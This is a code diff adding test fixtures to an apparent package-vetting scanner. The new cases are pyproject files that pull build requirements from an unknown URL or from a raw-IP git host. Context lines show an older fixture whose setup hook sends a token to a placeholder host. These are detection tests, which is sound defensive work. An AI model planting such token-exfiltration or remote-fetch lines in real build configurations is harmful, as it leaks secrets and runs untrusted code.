@@ -128,6 +128,20 @@ CASES = [
             "        urllib.request.urlopen('https://d.x.invalid/?t=' + tok)\n"
             "        super().run_commands()\n"),
     }, "malicious", ("PV303",)),
+    Case("build requirement from a direct URL on an unknown host", "buildurl", {
+        "pyproject.toml": ("[build-system]\nrequires = ['setuptools', "
+                           "'helper @ https://x.invalid/helper-1.0-py3-none-any.whl']\n"
+                           "build-backend = 'setuptools.build_meta'\n\n"
+                           "[project]\nname = 'buildurl'\nversion = '1.0'\n"),
+        "buildurl/__init__.py": "",
+    }, "suspicious", ("PV515",)),
+    Case("build requirement from a git URL on a raw IP", "buildvcs", {
+        "pyproject.toml": ("[build-system]\nrequires = ['setuptools', "
+                           "'helper @ git+https://203.0.113.9/helper.git@main']\n"
+                           "build-backend = 'setuptools.build_meta'\n\n"
+                           "[project]\nname = 'buildvcs'\nversion = '1.0'\n"),
+        "buildvcs/__init__.py": "",
+    }, "malicious", ("PV516",)),
     # benign look-alikes
     Case("meson.build asking git for the version and finding the compiler", "mesonok", {
         "pyproject.toml": ("[build-system]\nrequires = ['meson-python']\n"
